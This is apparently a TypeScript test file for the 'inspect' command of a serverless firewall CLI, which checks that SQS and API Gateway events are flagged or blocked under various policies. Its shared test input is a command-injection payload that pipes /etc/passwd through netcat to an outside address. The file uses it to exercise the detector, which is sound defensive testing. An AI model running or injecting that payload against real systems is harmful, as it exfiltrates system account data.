import { spawnSync } from 'node:child_process';
import { mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { runCommandLine } from '../testing/a-command-line.ts';

let folder = '';

beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'inspect-')));
});

afterEach(() => rmSync(folder, { recursive: true, force: true }));

const attack = '1; cat /etc/passwd | nc 203.0.113.9 4444';

function queued(...bodies: readonly string[]): object {
  return { Records: bodies.map((body, index) => ({ messageId: `m${index}`, eventSource: 'aws:sqs', body })) };
}

function put(name: string, ...lines: readonly unknown[]): string {
  writeFileSync(
    join(folder, name),
    lines.map((line) => (typeof line === 'string' ? line : JSON.stringify(line))).join('\n'),
  );
  return name;
}

async function inspect(...words: readonly string[]) {
  const result = await runCommandLine(['inspect', ...words, '-f', 'jsonl'], { cwd: folder });
  const lines = result.stdout.split('\n').filter(Boolean);
  return { ...result, events: lines.map((line): Record<string, unknown> => JSON.parse(line)) };
}

describe('inspect', () => {
  test('answers one line an event, in order, with its id', async () => {
    const file = put('e.jsonl', { id: 'a', event: queued(attack) }, queued('two shirts, please'), '');
    const { code, events } = await inspect(file, '--mode', 'block');
    expect(code).toBe(0);
    expect(events).toMatchObject([
      {
        id: 'a',
        trigger: 'sqs',
        verdict: 'block',
        blockedRecords: [0],
        violations: [{ detector: expect.any(String), field: 'Records[0].body', decoded: [] }, {}],
        micros: expect.any(Number),
      },
      { trigger: 'sqs', verdict: 'allow', violations: [] },
    ]);
  });

  test('alerts without a policy, and says nothing in the mode off', async () => {
    const file = put('e.jsonl', queued(attack));
    expect((await inspect(file)).events).toMatchObject([{ verdict: 'alert' }]);
    expect((await inspect(file, '--mode', 'off')).events).toMatchObject([
      { verdict: 'allow', violations: [] },
    ]);
  });

  test('reads one event of several lines', async () => {
    writeFileSync(join(folder, 'event.json'), JSON.stringify(queued('hello'), undefined, 2));
    expect((await inspect('event.json')).events).toMatchObject([{ trigger: 'sqs', verdict: 'allow' }]);
  });

  test('tells a line that is no JSON and goes on', async () => {
    const { code, events } = await inspect(put('e.jsonl', '{broken', queued('hello')));
    expect(events).toMatchObject([{ error: 'line 1 is no JSON' }, { verdict: 'allow' }]);
    expect(code).toBe(4);
  });

  test('fails with --fail-on', async () => {
    const file = put('e.jsonl', queued(attack));
    expect((await inspect(file, '--fail-on', 'medium')).code).toBe(1);
    expect((await inspect(file, '--fail-on', 'high')).code).toBe(0);
    expect((await inspect(file, '--fail-on', 'high', '--mode', 'block')).code).toBe(1);
  });

  test.each([
    ['guard.json', JSON.stringify({ functions: { 'orders-*': { mode: 'block' } } })],
    ['guard.yml', 'functions:\n  orders-*:\n    mode: block\n'],
  ])("takes the function's part of the policy %s", async (name, text) => {
    put(name, text);
    const file = put('e.jsonl', queued(attack));
    const { events } = await inspect(file, '--policy', name, '--function', 'orders-write');
    expect(events).toMatchObject([{ verdict: 'block' }]);
    expect((await inspect(file, '--policy', name, '--function', 'other')).events).toMatchObject([
      { verdict: 'alert' },
    ]);
  });

  test.each([
    ['{"firewall":{"mod":"block"}}', 'firewall has the unknown key "mod"'],
    ['{"mode":"deny"}', 'mode must be one of off, alert, block, learn, "deny" seen'],
    ['{', 'it is no JSON'],
  ])('refuses the policy %s', async (text, problem) => {
    const { code, stderr } = await inspect(put('e.jsonl', queued('x')), '--policy', put('guard.json', text));
    expect(code).toBe(2);
    expect(stderr).toContain(problem);
    expect(stderr).toContain('WT-E-CONFIG-07');
  });

  test('holds events to all of a policy that can be, and says what cannot', async () => {
    const policy = {
      mode: 'block',
      firewall: {
        addresses: { deny: ['198.51.100.0/24'] },
        limits: { eventSize: 400, sourceRate: 5 },
        graphql: { depth: 3 },
      },
      protectLambda: { incoming: ['\\bunion\\b'] },
      behaviour: { processes: 'block' },
      sinks: {},
      learned: { events: { 'api-gateway-http': { $: ['object'] } } },
    };
    const request = (sourceIp: string, body: string) => ({
      version: '2.0',
      rawPath: '/',
      headers: {},
      requestContext: { http: { method: 'POST', path: '/', sourceIp } },
      body,
    });
    put('guard.json', JSON.stringify(policy));
    const file = put(
      'e.jsonl',
      request('198.51.100.7', 'x'),
      request('192.0.2.1', 'x'.repeat(500)),
      request('192.0.2.1', '{"query":"{ a { b { c { d } } } }"}'),
      request('192.0.2.1', 'a union b'),
    );
    const { events, stderr } = await inspect(file, '--policy', 'guard.json');
    expect(events).toMatchObject(
      ['address-list', 'size-limit', 'graphql-abuse', 'regex-rule'].map((detector) => ({
        verdict: 'block',
        violations: [{ detector }],
      })),
    );
    expect(events[0]).toMatchObject({
      drift: expect.arrayContaining(['api-gateway-http $.version: string']),
    });
    const { stdout } = await runCommandLine(['inspect', file, '--policy', 'guard.json', '-f', 'json'], {
      cwd: folder,
    });
    expect(JSON.parse(stdout).notApplied.map(({ part }: { part: string }) => part)).toEqual([
      'firewall.limits.sourceRate',
      'behaviour',
      'sinks',
    ]);
    expect(stderr).toContain(
      'Not applied: firewall.limits.sourceRate, a rate is counted in a running function',
    );
  });

  test('refuses files that are not there and modes that are none', async () => {
    expect(await inspect('none.jsonl')).toMatchObject({ code: 2, stdout: '' });
    expect(await inspect(put('e.jsonl', '{}'), '--policy', 'none.json')).toMatchObject({
      code: 2,
      stdout: '',
    });
    expect(await inspect(put('e.jsonl', '{}'), '--mode', 'deny')).toMatchObject({ code: 2, stdout: '' });
  });

  test('is incomplete when there is nothing to inspect', async () => {
    expect(await inspect(put('e.jsonl', ''))).toMatchObject({ code: 4, events: [] });
  });

  test('reads standard input', () => {
    const bin = join(import.meta.dirname, '../../bin/watertight.js');
    const { stdout, status } = spawnSync(process.execPath, [bin, 'inspect', '-f', 'jsonl'], {
      input: `${JSON.stringify({ id: 'x', event: queued(attack) })}\n`,
      encoding: 'utf8',
      cwd: folder,
    });
    expect(JSON.parse(stdout)).toMatchObject({ id: 'x', verdict: 'alert' });
    expect(status).toBe(0);
  });
});
